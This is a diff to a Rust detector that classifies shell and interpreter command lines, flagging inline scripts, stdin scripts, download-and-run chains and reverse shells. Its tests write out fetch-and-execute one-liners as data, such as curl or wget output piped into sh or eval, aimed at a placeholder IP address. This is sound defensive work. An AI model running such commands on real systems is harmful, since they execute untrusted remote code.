@@ -13,42 +13,75 @@ pub(super) fn code<'a>(words: &'a Words, exec: &Exec<'a>, facts: &mut Facts<'a>)
     if !shell && !facts.has(Field::Class, "interpreter") {
         return;
     }
-    if let Some(script) = inline_code(exec, shell) {
-        facts.add(Field::Script, "inline");
-        if shell {
-            shell_script(words, exec, script, facts);
+    match given(exec, shell) {
+        Given::Code(script) => {
+            facts.add(Field::Script, "inline");
+            if shell {
+                shell_script(words, exec, script, facts);
+            }
         }
-    } else if shell && reads_stdin(exec) {
-        facts.add(Field::Script, "stdin");
+        Given::Nothing | Given::File("/dev/stdin") if shell && !is_login_shell(exec) => {
+            facts.add(Field::Script, "stdin");
+        }
+        _ => {}
     }
-    if shell && exec.argv.iter().skip(1).any(|word| *word == "-i" || *word == "-li" || *word == "-il") {
+    let mut options = exec.argv.iter().skip(1).take_while(|word| word.starts_with(['-', '+']));
+    if shell && options.any(|word| matches!(*word, "-i" | "-li" | "-il" | "-pi" | "-ip")) {
         facts.add(Field::Script, "interactive");
     }
 }
 
-/// The code of `-c`, `-e`, `-r` and the like; for a shell also of `-lc`.
-fn inline_code<'a>(exec: &Exec<'a>, shell: bool) -> Option<&'a str> {
-    let at = exec.argv.iter().position(|word| {
-        let Some(short) = word.strip_prefix('-').filter(|short| !short.starts_with('-')) else { return false };
-        let letters = short.len() <= 6 && short.bytes().all(|byte| byte.is_ascii_alphabetic());
-        letters && if shell { short.ends_with('c') } else { short.ends_with(['c', 'e', 'r', 'E']) }
-    });
-    match at {
-        Some(at) => exec.argv.get(at + 1).copied(),
-        // An awk's program is its first operand.
-        None if exec.argv.first().is_some_and(|own| plain_name(own).ends_with("awk")) => {
-            exec.argv.iter().skip(1).find(|word| !word.starts_with('-')).copied()
-        }
-        None => None,
-    }
+/// What an interpreter was told to run.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(super) enum Given<'a> {
+    /// Code on the command line.
+    Code(&'a str),
+    /// A file.
+    File(&'a str),
+    /// A module by its name.
+    Module,
+    /// Nothing: it asks, or takes what comes.
+    Nothing,
 }
 
-/// A shell without a script of its own takes what comes.
-fn reads_stdin(exec: &Exec<'_>) -> bool {
+/// Reads the options in front of the first operand; what follows belongs to the script.
+pub(super) fn given<'a>(exec: &Exec<'a>, shell: bool) -> Given<'a> {
     let own = exec.argv.first().copied().unwrap_or_default();
-    // A login shell is somebody's; a script's shell has its path among the arguments.
-    !own.starts_with('-')
-        && exec.argv.iter().skip(1).all(|word| word.starts_with(['-', '+']) && *word != "--login" || *word == "/dev/stdin")
+    let (awk, perl) = (plain_name(own).ends_with("awk"), plain_name(own) == "perl");
+    // Of these the shell is an argument.
+    let mut at = if matches!(base_name(own), "busybox" | "toybox") { 2 } else { 1 };
+    while let Some(word) = exec.argv.get(at).copied() {
+        let Some(short) = word.strip_prefix(['-', '+']).filter(|short| !short.is_empty()) else {
+            return if awk { Given::Code(word) } else { Given::File(word) };
+        };
+        let letters = short.len() <= 6 && short.bytes().all(|byte| byte.is_ascii_alphabetic());
+        let code = letters
+            && if shell {
+                short.ends_with('c') && word.starts_with('-')
+            } else {
+                short.ends_with(['c', 'e', 'r']) && !awk || perl && short.ends_with('E')
+            };
+        if code {
+            return exec.argv.get(at + 1).map_or(Given::Nothing, |code| Given::Code(code));
+        }
+        match word {
+            "-m" if !shell => return Given::Module,
+            "-f" if awk => return exec.argv.get(at + 1).map_or(Given::Nothing, |file| Given::File(file)),
+            "--eval" | "--run" | "--execute" => {
+                return exec.argv.get(at + 1).map_or(Given::Nothing, |code| Given::Code(code));
+            }
+            // These take a value.
+            "-o" | "+o" | "-O" | "+O" | "--rcfile" | "--init-file" => at += 2,
+            "-W" | "-X" | "-I" | "-M" | "-F" | "-v" | "-d" | "-S" | "-C" if !shell => at += 2,
+            _ => at += 1,
+        }
+    }
+    Given::Nothing
+}
+
+/// A login shell is somebody's; any other without a script takes what comes.
+fn is_login_shell(exec: &Exec<'_>) -> bool {
+    exec.argv.first().is_some_and(|own| own.starts_with('-')) || exec.argv.contains(&"--login")
 }
 
 fn shell_script<'a>(words: &'a Words, exec: &Exec<'a>, script: &str, facts: &mut Facts<'a>) {
@@ -65,7 +98,8 @@ fn shell_script<'a>(words: &'a Words, exec: &Exec<'a>, script: &str, facts: &mut
             effects.written(path, matches!(program, "" | ":" | "true" | "echo" | "cat") && arguments.is_empty());
         }
         command.reads.iter().for_each(|path| effects.read(path));
-        let fed = is_fed(command, program, words);
+        // `sh -c "$(...)"`: what the substitution says is the command.
+        let fed = is_fed(command, program, words) || command.words.iter().all(String::is_empty);
         for before in sources(&commands, index).filter(|_| fed) {
             if is(before, "fetcher") {
                 facts.add(Field::Script, "download_run");
@@ -84,9 +118,11 @@ fn shell_script<'a>(words: &'a Words, exec: &Exec<'a>, script: &str, facts: &mut
                 facts.add(Field::Script, "reverse_shell");
             }
         }
-        let sockets = command.writes.iter().chain(&command.reads).any(|path| {
-            path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/")
-        });
+        let sockets = command
+            .writes
+            .iter()
+            .chain(&command.reads)
+            .any(|path| path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/"));
         if sockets && (is(index, "shell") || program == "exec") {
             facts.add(Field::Script, "reverse_shell");
         }
@@ -96,8 +132,8 @@ fn shell_script<'a>(words: &'a Words, exec: &Exec<'a>, script: &str, facts: &mut
 /// The program of a command, behind what only wraps it.
 fn program_of(command: &Command) -> &str {
     const THROUGH: &[&str] = &[
-        "sudo", "env", "nohup", "exec", "command", "builtin", "time", "if", "then", "else", "elif", "do", "while", "until",
-        "!", "-E", "-n", "-H", "busybox", "setsid", "stdbuf", "xargs", "coproc",
+        "sudo", "env", "nohup", "exec", "command", "builtin", "time", "if", "then", "else", "elif", "do", "while",
+        "until", "!", "-E", "-n", "-H", "busybox", "setsid", "stdbuf", "xargs", "coproc",
     ];
     let mut words = command.words.iter().map(String::as_str);
     let program = words.find(|word| !(THROUGH.contains(word) || word.contains('=') && !word.starts_with(['-', '/'])));
@@ -115,14 +151,16 @@ fn is_fed(command: &Command, program: &str, words: &Words) -> bool {
         return true;
     }
     // `| python -m json.tool`, `| perl -pe ...`: the pipe is data there, not code.
-    matches!(name, "python" | "perl" | "ruby" | "php" | "node" | "lua") && command.words.len() < 3
+    matches!(name, "python" | "perl" | "ruby" | "php" | "node" | "lua")
+        && command.words.len() < 3
         && !command.words.iter().skip(1).any(|word| word.len() > 1 && word.starts_with('-'))
 }
 
 /// The commands whose output a command gets, through pipes or as part of its words.
 fn sources(commands: &[Command], index: usize) -> impl Iterator<Item = usize> {
     let piped = std::iter::successors(commands[index].piped_from, |before| commands.get(*before)?.piped_from);
-    let inside = commands.iter().enumerate().filter(move |(_, command)| command.inside == Some(index)).map(|(at, _)| at);
+    let inside =
+        commands.iter().enumerate().filter(move |(_, command)| command.inside == Some(index)).map(|(at, _)| at);
     piped.take(commands.len()).chain(inside)
 }
 
@@ -160,6 +198,7 @@ mod tests {
             "bash -c \"$(curl -fsSL http://203.0.113.9/x.sh)\"",
             "cd /tmp; wget -qO- http://203.0.113.9/x | tee x | sh",
             "eval `curl -s h`",
+            "$(curl -s h)",
             ". <(curl -s h)",
         ] {
             assert!(labels(&["sh", "-c", script]).contains(&"download_run".to_owned()), "{script}");
@@ -179,7 +218,10 @@ mod tests {
         ] {
             assert!(labels(&["bash", "-c", script]).contains(&"reverse_shell".to_owned()), "{script}");
         }
-        assert!(!labels(&["sh", "-c", "timeout 1 bash -c '</dev/tcp/127.0.0.1/5432'"]).contains(&"reverse_shell".to_owned()));
+        assert!(
+            !labels(&["sh", "-c", "timeout 1 bash -c '</dev/tcp/127.0.0.1/5432'"])
+                .contains(&"reverse_shell".to_owned())
+        );
     }
 
     #[test]
@@ -188,5 +230,9 @@ mod tests {
         assert_eq!(labels(&["bash", "-s"]), ["stdin"]);
         assert_eq!(labels(&["-bash"]), [""; 0]);
         assert_eq!(labels(&["bash", "x.sh"]), [""; 0]);
+        assert_eq!(labels(&["bash", "x.sh", "-c", "id"]), [""; 0]);
+        assert_eq!(labels(&["bash", "-o", "pipefail", "-ec", "id"]), ["inline"]);
+        assert_eq!(labels(&["python3", "x.py", "-r", "y"]), [""; 0]);
+        assert_eq!(labels(&["python3", "-W", "ignore", "-c", "pass"]), ["inline"]);
     }
 }
